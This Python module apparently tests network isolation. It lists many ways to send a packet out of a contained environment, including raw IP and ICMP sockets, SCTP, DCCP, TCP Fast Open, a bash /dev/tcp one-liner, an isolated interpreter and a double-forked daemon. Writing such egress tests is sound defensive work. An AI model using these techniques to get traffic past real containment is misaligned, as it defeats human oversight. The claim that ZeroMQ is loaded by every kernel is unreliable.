"""Straight out, by every kind of internet socket. Judged by the packet: whether an answer came does not matter."""

from __future__ import annotations

import ctypes
import os
import select
import socket
import struct
import subprocess
import sys
from contextlib import closing

from .base import Judge, Target, attack

_LIBC = ctypes.CDLL(None, use_errno=True)
_MPTCP, _TCP_FASTOPEN_CONNECT, _UDPLITE, _DCCP, _SCTP = 262, 30, 136, 33, 132


def _to(address: str, port: int, kind: int = socket.SOCK_STREAM, protocol: int = 0) -> str:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with closing(socket.socket(family, kind, protocol)) as end:
        end.settimeout(2)
        end.connect((address, port))
        end.send(b"out")
    return "sent"


@attack(Judge.PACKET, "TCP to a public address")
def tcp(target: Target) -> str:
    return _to(target.public, 443)


@attack(Judge.PACKET, "TCP to a public address, another port")
def tcp_ssh(target: Target) -> str:
    return _to(target.public, 22)


@attack(Judge.PACKET, "TCP over IPv6")
def tcp6(target: Target) -> str:
    return _to(target.public6, 443)


@attack(Judge.PACKET, "TCP by an IPv4-mapped IPv6 address")
def tcp6_mapped(target: Target) -> str:
    return _to(f"::ffff:{target.public}", 443)


@attack(Judge.PACKET, "UDP datagram")
def udp(target: Target) -> str:
    return _to(target.public, 9999, socket.SOCK_DGRAM)


@attack(Judge.PACKET, "UDP datagram over IPv6")
def udp6(target: Target) -> str:
    return _to(target.public6, 9999, socket.SOCK_DGRAM)


@attack(Judge.PACKET, "UDP to port 443, as QUIC")
def quic(target: Target) -> str:
    return _to(target.public, 443, socket.SOCK_DGRAM)


@attack(Judge.PACKET, "UDP, many at once by sendmmsg")
def sendmmsg(target: Target) -> str:
    where = struct.pack("=HH4s8x", socket.AF_INET, socket.htons(9999), socket.inet_aton(target.public))
    name, data = ctypes.create_string_buffer(where, 16), ctypes.create_string_buffer(b"out")
    part = (ctypes.c_uint64 * 2)(ctypes.addressof(data), 3)
    head = struct.pack("=QIxxxxQQQQIxxxx", ctypes.addressof(name), 16, ctypes.addressof(part), 1, 0, 0, 0)
    message = ctypes.create_string_buffer(head + bytes(8), 64)
    with closing(socket.socket(socket.AF_INET, socket.SOCK_DGRAM)) as end:
        sent = _LIBC.sendmmsg(end.fileno(), message, 1, 0)
        return f"{sent} sent, errno {ctypes.get_errno()}"


@attack(Judge.PACKET, "UDP with broadcast allowed")
def broadcast(target: Target) -> str:
    with closing(socket.socket(socket.AF_INET, socket.SOCK_DGRAM)) as end:
        end.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        return str(end.sendto(b"out", (target.public, target.port)))


@attack(Judge.PAYLOAD, "UDP multicast")
def multicast(target: Target) -> str:
    with closing(socket.socket(socket.AF_INET, socket.SOCK_DGRAM)) as end:
        end.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton("127.0.0.1"))
        return str(end.sendto(target.nonce.encode(), ("224.0.0.251", 5353)))


@attack(Judge.PACKET, "Multipath TCP (protocol 262)")
def mptcp(target: Target) -> str:
    return _to(target.public, 443, protocol=_MPTCP)


@attack(Judge.PACKET, "TCP Fast Open: data with the first packet by sendto")
def fast_open(target: Target) -> str:
    with closing(socket.socket()) as end:
        return str(end.sendto(b"out", socket.MSG_FASTOPEN, (target.public, 443)))


@attack(Judge.PACKET, "TCP Fast Open by a socket option")
def fast_open_connect(target: Target) -> str:
    with closing(socket.socket()) as end:
        end.setsockopt(socket.IPPROTO_TCP, _TCP_FASTOPEN_CONNECT, 1)
        end.connect((target.public, 443))
        return str(end.send(b"out"))


@attack(Judge.PACKET, "TCP, not blocking")
def not_blocking(target: Target) -> str:
    with closing(socket.socket()) as end:
        end.setblocking(False)
        code = end.connect_ex((target.public, 443))
        select.select([], [end], [], 1)
        return os.strerror(code)


@attack(Judge.PACKET, "TCP bound to the loopback device and a foreign source address")
def bound(target: Target) -> str:
    with closing(socket.socket()) as end:
        end.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo\0")
        end.setsockopt(socket.IPPROTO_IP, 19, 1)  # IP_TRANSPARENT
        end.settimeout(2)
        end.connect((target.public, 443))
    return "connected"


@attack(Judge.PACKET, "SCTP")
def sctp(target: Target) -> str:
    return _to(target.public, 9999, protocol=_SCTP)


@attack(Judge.PACKET, "DCCP")
def dccp(target: Target) -> str:
    return _to(target.public, 9999, 6, _DCCP)


@attack(Judge.PACKET, "UDP-Lite")
def udplite(target: Target) -> str:
    return _to(target.public, 9999, socket.SOCK_DGRAM, _UDPLITE)


@attack(Judge.PACKET, "ping by a raw socket")
def raw_ping(target: Target) -> str:
    with closing(socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)) as end:
        return str(end.sendto(bytes((8, 0, 0xF7, 0xFF, 0, 0, 0, 0)), (target.public, 0)))


@attack(Judge.PACKET, "ping without privilege")
def ping(target: Target) -> str:
    with closing(socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)) as end:
        return str(end.sendto(bytes((8, 0, 0xF7, 0xFF, 0, 0, 0, 0)), (target.public, 0)))


@attack(Judge.PACKET, "IP packet made by hand")
def raw_ip(target: Target) -> str:
    source, to = socket.inet_aton("127.0.0.1"), socket.inet_aton(target.public)
    udp = struct.pack(">HHHH", 9999, 9999, 8, 0)
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 28, 1, 0, 64, 17, 0, source, to)
    with closing(socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)) as end:
        return str(end.sendto(head + udp, (target.public, 0)))


@attack(Judge.PACKET, "frame by a packet socket")
def frame(target: Target) -> str:
    to = socket.inet_aton(target.public)
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 28, 1, 0, 64, 17, 0, to, to)
    with closing(socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0)) as end:
        return str(end.sendto(head + struct.pack(">HHHH", 9999, 9999, 8, 0), ("lo", 0x0800)))


@attack(Judge.PACKET, "bash and /dev/tcp")
def bash(target: Target) -> str:
    command = f"echo out > /dev/tcp/{target.public}/443"
    return subprocess.run(["bash", "-c", command], capture_output=True, text=True, timeout=3, check=False).stderr


@attack(Judge.PACKET, "another interpreter, isolated, without site")
def interpreter(target: Target) -> str:
    code = f"import socket; socket.create_connection(({target.public!r}, 443), 2).send(b'out')"
    command = [sys.executable, "-I", "-S", "-c", code]
    return subprocess.run(command, capture_output=True, text=True, timeout=4, check=False).stderr[-200:]


@attack(Judge.PACKET, "a process that outlives its parents (double fork, own session)")
def daemon(target: Target) -> str:
    end, other = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                os.write(other, _to(target.public, 443).encode())
            except OSError as problem:
                os.write(other, str(problem).encode())
        os._exit(0)
    os.close(other)
    return os.read(end, 200).decode()


@attack(Judge.PACKET, "ZeroMQ, which every kernel has loaded")
def zeromq(target: Target) -> str:
    import zmq

    context = zmq.Context()
    end = context.socket(zmq.PUSH)
    end.connect(f"tcp://{target.public}:443")
    end.send(b"out", zmq.NOBLOCK) if end.poll(700, zmq.POLLOUT) else None
    context.destroy(linger=0)
    return "asked"
